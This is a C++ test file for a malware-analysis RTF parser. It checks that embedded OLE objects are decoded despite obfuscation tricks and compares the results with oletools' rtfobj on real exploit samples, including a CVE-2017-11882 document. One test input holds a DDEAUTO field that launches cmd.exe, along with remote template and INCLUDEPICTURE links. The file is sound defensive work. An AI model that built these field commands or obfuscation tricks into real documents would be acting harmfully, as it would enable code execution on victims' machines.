// The RTF reader against Word's tricks one at a time, oletools' rtfobj test documents, a real
// CVE-2017-11882 document and the 2 MB RTF specification (no objects, no tricks). Expected
// offsets and hashes of the corpus files are those oletools' rtfobj 0.60.1 reports.
#include "kensa/rtf/rtf_parser.h"

#include <algorithm>

#include "kensa/hashing/hashes.h"
#include "rtf_test_support.h"

namespace kensa::rtf {
namespace {

using testing::AsBytes;
using testing::AsText;

RtfDocument Parse(std::string_view rtf, const RtfLimits& limits = {}) {
  const Bytes bytes = AsBytes(rtf);
  return ParseRtf(bytes, limits);
}

bool HasFinding(const RtfDocument& doc, std::string_view code) {
  return std::any_of(doc.findings.begin(), doc.findings.end(),
                     [&](const RtfFinding& finding) { return finding.code == code; });
}

const RtfFinding& Finding(const RtfDocument& doc, std::string_view code) {
  const auto it = std::find_if(doc.findings.begin(), doc.findings.end(),
                               [&](const RtfFinding& finding) { return finding.code == code; });
  REQUIRE(it != doc.findings.end());
  return *it;
}

std::string Hex(const RtfObject& object) { return ToHex(object.data); }

TEST_CASE("a Word-style object decodes its hex with class, flags and offset") {
  const std::string rtf =
      "{\\rtf1\\ansi\\ansicpg932{\\object\\objemb\\objupdate{\\*\\objclass Package}"
      "{\\*\\objdata 01020A0b\r\nff\r\n}}}";
  const auto doc = Parse(rtf);
  CHECK(doc.header == "rtf1");
  CHECK(doc.code_page == 932);
  REQUIRE(doc.objects.size() == 1);
  const RtfObject& object = doc.objects[0];
  CHECK(Hex(object) == "01020a0bff");
  CHECK(object.objclass == "Package");
  CHECK(object.flags == std::vector<std::string>{"objemb", "objupdate"});
  CHECK(object.offset == rtf.find("\\objdata") + 8);
  CHECK(object.object_group_offset == rtf.find("\\object"));
  CHECK(doc.findings.empty());
}

TEST_CASE("junk characters between hex digits are skipped and reported") {
  const auto doc = Parse("{\\rtf1{\\object{\\*\\objdata 01;zz-02.}}}");
  REQUIRE(doc.objects.size() == 1);
  CHECK(Hex(doc.objects[0]) == "0102");
  CHECK(doc.objects[0].junk_bytes == 5);
  CHECK(HasFinding(doc, "rtf_objdata_hex_junk"));
}

TEST_CASE("text of groups and control words inside objdata is object data, as in Word") {
  // The Frankenstein document spells the OLE1 version this way: {\*\par574 0}.
  const auto doc =
      Parse("{\\rtf1{\\object{\\*\\objdata {\\*\\par574 0}1{\\*\\par1 0}5\\fs20 0000}}}");
  REQUIRE(doc.objects.size() == 1);
  CHECK(Hex(doc.objects[0]) == "01050000");
  CHECK(doc.objects[0].embedded_groups == 2);
  CHECK(HasFinding(doc, "rtf_objdata_embedded_groups"));
}

TEST_CASE("text of a destination inside objdata belongs to that destination") {
  const auto doc = Parse("{\\rtf1{\\object{\\*\\objdata 01{\\*\\datastore abcd}02}}}");
  REQUIRE(doc.objects.size() == 1);
  CHECK(Hex(doc.objects[0]) == "0102");
}

TEST_CASE("bin inserts raw bytes, continuing an odd digit count like rtfobj") {
  const auto even = Parse("{\\rtf1{\\object{\\*\\objdata 01\\bin2 AB02}}}");
  REQUIRE(even.objects.size() == 1);
  CHECK(Hex(even.objects[0]) == "01414202");
  CHECK(even.objects[0].bin_bytes == 2);
  CHECK(HasFinding(even, "rtf_objdata_bin"));

  const auto odd = Parse("{\\rtf1{\\object{\\*\\objdata 0\\bin1 A}}}");
  REQUIRE(odd.objects.size() == 1);
  CHECK(Hex(odd.objects[0]) == "04");  // "0" + "41": the odd last digit is dropped
  CHECK(HasFinding(odd, "rtf_objdata_odd_digits"));

  // A negative or missing length is 0 for Word.
  const auto negative = Parse("{\\rtf1{\\object{\\*\\objdata 01\\bin-5 02\\bin 03}}}");
  REQUIRE(negative.objects.size() == 1);
  CHECK(Hex(negative.objects[0]) == "010203");
}

TEST_CASE("bin past the end takes what is there") {
  const auto doc = Parse("{\\rtf1{\\object{\\*\\objdata 32\\bin999999999999 FF}}}");
  REQUIRE(doc.objects.size() == 1);
  CHECK(Hex(doc.objects[0]) == "3246467d7d7d");
  CHECK(HasFinding(doc, "rtf_bin_past_end"));
  CHECK(HasFinding(doc, "rtf_huge_parameter"));
}

TEST_CASE("a hex escape drops the last digit when their count is odd, as Word's parser does") {
  const auto doc = Parse("{\\rtf1{\\object{\\*\\objdata 0102f\\'zz03\\'4104}}}");
  REQUIRE(doc.objects.size() == 1);
  CHECK(Hex(doc.objects[0]) == "01020304");
  CHECK(doc.objects[0].hex_escapes == 2);
  CHECK(HasFinding(doc, "rtf_objdata_hex_escape"));
}

TEST_CASE("control words longer than 253 characters leave their extra digits as text") {
  // 250 letters leave room for 3 digits: "000" is the parameter, "0004" is hex data.
  const std::string rtf =
      "{\\rtf1{\\object{\\*\\objdata 01\\" + std::string(250, 'a') + "0000004}}}";
  const auto doc = Parse(rtf);
  REQUIRE(doc.objects.size() == 1);
  CHECK(Hex(doc.objects[0]) == "010004");
  CHECK(HasFinding(doc, "rtf_oversized_control_word"));
  CHECK(Finding(doc, "rtf_oversized_control_word").offset == rtf.find("\\aaa"));
}

TEST_CASE("unclosed groups are closed at the end of the file") {
  const auto doc = Parse("{\\rtf1{\\object\\objautlink{\\*\\objdata 0102");
  REQUIRE(doc.objects.size() == 1);
  CHECK(Hex(doc.objects[0]) == "0102");
  CHECK(doc.objects[0].flags == std::vector<std::string>{"objautlink"});
  CHECK(doc.unclosed_groups == 3);
  CHECK(HasFinding(doc, "rtf_unclosed_groups"));
}

TEST_CASE("objects hidden in other destinations and inside other objects are found") {
  const auto hidden = Parse("{\\rtf1{\\*\\footerr{\\*\\objdata 0102}}}");
  REQUIRE(hidden.objects.size() == 1);
  CHECK(!hidden.objects[0].object_group_offset.has_value());
  CHECK(HasFinding(hidden, "rtf_objdata_outside_object"));

  const auto nested = Parse(
      "{\\rtf1{\\object{\\*\\objdata 01{\\object{\\*\\objclass Inner}{\\*\\objdata 0203}}04}}}");
  REQUIRE(nested.objects.size() == 2);
  CHECK(Hex(nested.objects[0]) == "0203");  // the inner one closes first
  CHECK(nested.objects[0].objclass == "Inner");
  CHECK(nested.objects[0].nested);
  CHECK(Hex(nested.objects[1]) == "0104");
  CHECK(HasFinding(nested, "rtf_nested_object"));
}

TEST_CASE("a second objdata in the same group starts a second object") {
  const auto doc = Parse("{\\rtf1{\\object{\\*\\objdata 0102\\objdata 0304}}}");
  REQUIRE(doc.objects.size() == 2);
  CHECK(Hex(doc.objects[0]) == "0102");
  CHECK(Hex(doc.objects[1]) == "0304");
}

TEST_CASE("headers Word accepts but the spec does not are reported") {
  const auto doc = Parse("{\\rtvpn{\\object{\\*\\objdata 01}}}");
  CHECK(doc.header == "rtvpn");
  CHECK(HasFinding(doc, "rtf_nonstandard_header"));
  REQUIRE(doc.objects.size() == 1);
}

TEST_CASE("templates and active fields are kept with their text decoded") {
  const auto doc = Parse(
      // Word doubles the backslashes of a field code, and RTF escapes each of them again.
      "{\\rtf1{\\*\\template http://198.51.100.7/t.dotm}{\\*\\objclass \\'77}"
      "{\\field{\\*\\fldinst {DDEAUTO c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe \"/k "
      "calc.exe\"}}}"
      "{\\field{\\*\\fldinst HYPERLINK \"http://example.com\"}}"
      "{\\field{\\*\\fldinst INCLUDEPICTURE \"http://203.0.113.9/p.png\" \\\\d}}}");
  CHECK(doc.template_path == "http://198.51.100.7/t.dotm");
  REQUIRE(doc.fields.size() == 2);
  CHECK(doc.fields[0].instruction ==
        "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"");
  CHECK(doc.fields[1].instruction == "INCLUDEPICTURE \"http://203.0.113.9/p.png\" \\d");
}

TEST_CASE("deep nesting is bounded and reported") {
  std::string rtf = "{\\rtf1";
  for (int i = 0; i < 20000; ++i) rtf += "{\\*\\generator ";
  rtf += "{\\object{\\*\\objdata 0102}}";
  RtfLimits limits;
  limits.max_destination_depth = 1000;
  const auto doc = Parse(rtf, limits);
  CHECK(doc.max_group_depth == 20003);
  CHECK(doc.unclosed_groups == 20001);
  CHECK(HasFinding(doc, "rtf_depth_limit"));
}

TEST_CASE("object count and object size are bounded") {
  std::string rtf = "{\\rtf1";
  for (int i = 0; i < 50; ++i) rtf += "{\\object{\\*\\objdata 0102030405}}";
  rtf += "}";
  RtfLimits limits;
  limits.max_objects = 10;
  limits.max_object_bytes = 3;
  const auto doc = Parse(rtf, limits);
  REQUIRE(doc.objects.size() == 10);
  CHECK(Hex(doc.objects[9]) == "010203");
  CHECK(doc.objects[9].data_truncated);
  CHECK(HasFinding(doc, "rtf_object_limit"));
  CHECK(HasFinding(doc, "rtf_object_too_large"));
}

TEST_CASE("oletools issue 251: bin without parameter and hex split by control words") {
  const Bytes rtf = testing::ReadCorpus("oletools-tests/tests/test-data/rtfobj/issue_251.rtf");
  const auto doc = ParseRtf(rtf);
  CHECK(doc.header == "rtf2");
  REQUIRE(doc.objects.size() == 1);
  const RtfObject& object = doc.objects[0];
  CHECK(object.offset == 0x387);
  CHECK(object.end_offset == 0x407);
  CHECK(object.data.size() == 43);
  CHECK(hashing::Sha256Hex(object.data) ==
        "659be6e72cbb808f1d8cf42d957a87db83ee18f46a6e2f6cf4a08ba805f8c714");
  CHECK(object.objclass == "Equation.3");
  CHECK(object.flags == std::vector<std::string>{"objemb", "objupdate"});
  CHECK(object.hex_digits == 86);
  CHECK(HasFinding(doc, "rtf_objdata_embedded_groups"));
  CHECK(HasFinding(doc, "rtf_nonstandard_header"));
}

TEST_CASE("oletools issue 185: bin right after the objdata digits, header {\\rt only") {
  const Bytes zip = testing::ReadCorpus("oletools-tests/tests/test-data/rtfobj/issue_185.rtf.zip");
  auto listing = archive::ReadArchive(zip, {"infected-test"});
  REQUIRE(listing.has_value());
  REQUIRE(listing->members.size() == 1);
  const auto doc = ParseRtf(listing->members[0].data);
  CHECK(doc.header == "rt");
  REQUIRE(doc.objects.size() == 1);
  const RtfObject& object = doc.objects[0];
  CHECK(object.offset == 0x77);
  CHECK(hashing::Sha256Hex(object.data) ==
        "b00f4e6b0fc5be7f02990fa4ae10c17a32bef96db38d699b5063dc3e4b15b5da");
  CHECK(object.objclass == "w");  // {\*\objclass \'77}
  CHECK(object.flags == std::vector<std::string>{"objautlink", "objupdate"});
  CHECK(HasFinding(doc, "rtf_objdata_bin"));
  CHECK(HasFinding(doc, "rtf_bin_past_end"));
}

TEST_CASE("the Frankenstein CVE-2017-11882 document decodes as rtfobj decodes it") {
  const Bytes rtf = testing::FrankensteinRtf();
  const auto doc = ParseRtf(rtf);
  CHECK(doc.header == "rtf1");
  CHECK(doc.code_page == 1252);
  REQUIRE(doc.objects.size() == 1);
  const RtfObject& object = doc.objects[0];
  CHECK(object.offset == 0x1C2);
  CHECK(object.data.size() == 33458);
  CHECK(hashing::Sha256Hex(object.data) ==
        "2d69488bc83b871701d5ab3f6059e28ad423b991f6cea5fa04a1cb5cfcbca181");
  // The class hides in {\*\a equation.3}, a destination Word does not know.
  CHECK(object.objclass.empty());
  CHECK(object.flags == std::vector<std::string>{"objemb", "objupdate"});
  CHECK(object.embedded_groups == 6);
  CHECK(HasFinding(doc, "rtf_objdata_embedded_groups"));
  CHECK(HasFinding(doc, "rtf_oversized_control_word"));
}

TEST_CASE("the RTF specification has no objects and no tricks") {
  const Bytes rtf = testing::ReadCorpus("oletools-tests/tests/test-data/msodde/RTF-Spec-1.7.rtf");
  const auto doc = ParseRtf(rtf);
  CHECK(doc.header == "rtf1");
  CHECK(doc.objects.empty());
  CHECK(doc.findings.empty());
  CHECK(doc.fields.empty());  // 1,413 hyperlink fields and no DDE (oletools' msodde test)
  CHECK(doc.control_words > 100000);
}

TEST_CASE("corkami's minimal RTF is plain") {
  const Bytes rtf = testing::ReadCorpus("corkami/mini/rich.rtf");
  const auto doc = ParseRtf(rtf);
  CHECK(doc.header == "rtf1");
  CHECK(doc.objects.empty());
  CHECK(doc.findings.empty());
}

TEST_CASE("every prefix of a real exploit document parses") {
  const Bytes rtf = testing::FrankensteinRtf();
  for (std::size_t length = 0; length < 2048; length += 7) {
    const auto doc = ParseRtf(ByteSpan(rtf).first(length));
    CHECK(doc.objects.size() <= 1);
  }
  CHECK(AsText(ByteSpan(rtf).first(5)) == "{\\rtf");
}

}  // namespace
}  // namespace kensa::rtf
